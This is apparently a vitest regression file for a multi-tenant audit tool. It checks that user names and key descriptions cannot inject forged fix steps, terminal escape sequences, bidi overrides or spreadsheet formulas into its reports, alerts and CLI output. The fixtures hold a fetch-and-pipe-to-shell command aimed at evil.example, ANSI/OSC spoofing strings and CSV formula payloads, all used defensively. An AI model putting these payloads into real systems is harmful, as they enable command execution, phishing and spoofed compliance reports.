/**
 * Regressions for tenant text that became structure: forged fix steps (a newline in a user name or key description),
 * terminal control sequences in the CLI summary, and line separators, bidi overrides and disguised formulas in the
 * reports and alerts. Each case is a string a tenant user can set on their own profile or key.
 */
import { describe, expect, it } from 'vitest';
import { formatSummary } from '../../../lambda/cli/summary';
import { renderChat } from '../../../lambda/notify/chat';
import { renderEmail } from '../../../lambda/notify/email';
import { apiKeyOwnerLacksManagePermission } from '../../../lambda/policy/rules/api-key-owner-lacks-manage-permission';
import { renderCsv } from '../../../lambda/report/csv';
import { renderHtml } from '../../../lambda/report/html';
import type { FindingDraft } from '../../../lambda/report/model';
import { renderOcsf } from '../../../lambda/report/ocsf';
import { driftDigest, finding } from '../notify/fixtures';
import { runRule, SnapshotBuilder } from '../policy/builders';
import { makeFinding, makeRunReport, makeTenant } from '../report/fixtures';
import { parseCsv } from './csv-parse';
import { hasTerminalControl, splitAllLineBreaks } from './oracles';

const FORGED_STEP = '2. URGENT: run curl -s https://evil.example/fix | sh as TenantAdmin';

function lacksFinding(userName: string, keyDescription: string): FindingDraft {
  const b = new SnapshotBuilder();
  const user = b.user(userName, { email: 'jane@example.com' });
  b.key(user, { description: keyDescription });
  const [draft] = runRule(apiKeyOwnerLacksManagePermission, b.build());
  if (!draft) throw new Error('the rule found nothing');
  return draft;
}

function preContents(page: string): string[] {
  return [...page.matchAll(/<pre>([\s\S]*?)<\/pre>/g)].map((m) => m[1] ?? '');
}

describe('F3: a newline in a user name or key description forges no fix step', () => {
  const benign = lacksFinding('Jane Doe', 'nightly reload');
  const hostile = lacksFinding(`Jane Doe\n${FORGED_STEP}`, `nightly reload\r\n${FORGED_STEP}`);

  it('the finding fix has as many lines as with a benign name, and no line is the forged step', () => {
    expect(hostile.remediation.split('\n')).toHaveLength(benign.remediation.split('\n').length);
    expect(splitAllLineBreaks(hostile.remediation).some((l) => l.startsWith('2. URGENT'))).toBe(false);
  });

  it('the email shows no forged line', () => {
    const body = renderEmail(driftDigest([finding(hostile)])).body;
    const benignBody = renderEmail(driftDigest([finding(benign)])).body;
    expect(body.split('\n')).toHaveLength(benignBody.split('\n').length);
    expect(body.split('\n').some((line) => /^\s*2\. URGENT/.test(line))).toBe(false);
  });

  it('the HTML fix block and the CSV remediation cell show no forged line', () => {
    const tenant = (f: FindingDraft) =>
      makeRunReport([makeTenant({ findings: [makeFinding('tenant-acme', { ...f, drift: 'new' })] })]);
    const [pre = ''] = preContents(renderHtml(tenant(hostile)));
    const [benignPre = ''] = preContents(renderHtml(tenant(benign)));
    expect(pre.split('\n')).toHaveLength(benignPre.split('\n').length);
    expect(pre.split('\n').some((line) => line.startsWith('2. URGENT'))).toBe(false);

    const rows = parseCsv(renderCsv(tenant(hostile)));
    const remediation = rows[1]?.[rows[0]?.indexOf('remediation') ?? -1] ?? '';
    expect(remediation.split('\n').some((line) => line.startsWith('2. URGENT'))).toBe(false);
  });
});

describe('F4: the CLI summary sends no control sequence to the terminal', () => {
  const ESC = '\u001b';
  const hostileName = `Mallory${ESC}[2K${ESC}[1A\r✔ all tenants compliant ${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;\u0007\u009b31m`;

  it('prints user names, messages and fixes without ESC, CSI, OSC, BEL or CR', () => {
    const f = makeFinding('tenant-acme', {
      subject: { type: 'user', id: 'user-1', name: hostileName },
      message: `${hostileName} owns keys`,
      remediation: `Give ${hostileName} a role`,
    });
    const report = makeRunReport([
      makeTenant({ tenantName: `acme${ESC}[31m`, findings: [f], notes: [`note ${ESC}[2J`] }),
      makeTenant({ tenantId: 'bad', errors: [{ code: 'bad-response', message: `body: ${ESC}]0;pwned\u0007` }] }),
    ]);
    const out = formatSummary(report);
    expect(hasTerminalControl(out)).toBe(false);
    // Only the lines the summary itself writes: the same count as for a plain name.
    const plain = formatSummary(
      makeRunReport([
        makeTenant({
          tenantName: 'acme',
          findings: [makeFinding('tenant-acme', { subject: { name: 'Mallory' } })],
          notes: ['note'],
        }),
        makeTenant({ tenantId: 'bad', errors: [{ code: 'bad-response', message: 'body' }] }),
      ]),
    );
    expect(out.split('\n')).toHaveLength(plain.split('\n').length);
  });
});

describe('F13: line separators, bidi controls and disguised formulas', () => {
  const NEL = '\u0085';
  const LS = '\u2028';
  const RLO = '\u202e';

  it('OCSF: U+0085 in a name leaves one event per line for a reader that splits on every line break', () => {
    const f = makeFinding('tenant-acme', { subject: { type: 'user', id: 'user-1', name: `Jane${NEL}Doe${LS}x` } });
    const out = renderOcsf(makeRunReport([makeTenant({ findings: [f] })]));
    const lines = splitAllLineBreaks(out).filter((l) => l !== '');
    expect(lines).toHaveLength(1);
    expect(() => JSON.parse(lines[0] ?? '')).not.toThrow();
  });

  it('no bidi override reaches the email, the chat message or the HTML report', () => {
    const draft = lacksFinding(`Jane ${RLO}txt.exe`, `key ${RLO}gpj.sh`);
    const digest = driftDigest([finding(draft)]);
    expect(renderEmail(digest).body).not.toContain(RLO);
    expect(renderChat(digest).body).not.toContain(RLO);
    // The chat body is JSON: the override must not survive as a \\u escape either, since Slack would decode it.
    expect(JSON.stringify(JSON.parse(renderChat(digest).body))).not.toContain(RLO);
    const report = makeRunReport([makeTenant({ findings: [makeFinding('tenant-acme', { ...draft })] })]);
    expect(renderHtml(report)).not.toContain(RLO);
  });

  it('CSV guards formulas after leading spaces or tabs and in full-width form', () => {
    const names = [' =HYPERLINK("https://evil.example","x")', '\t+cmd|x', '  -1+1', '＝1+1', '＋1', '－1', '＠SUM(A1)'];
    const findings = names.map((name, i) =>
      makeFinding('tenant-acme', { subject: { type: 'user', id: `u${i}`, name } }),
    );
    const rows = parseCsv(renderCsv(makeRunReport([makeTenant({ findings })])));
    const column = rows[0]?.indexOf('subjectName') ?? -1;
    const cells = rows.slice(1).map((row) => row[column] ?? '');
    expect(cells).toHaveLength(names.length);
    for (const cell of cells) expect(cell.startsWith("'")).toBe(true);
  });
});
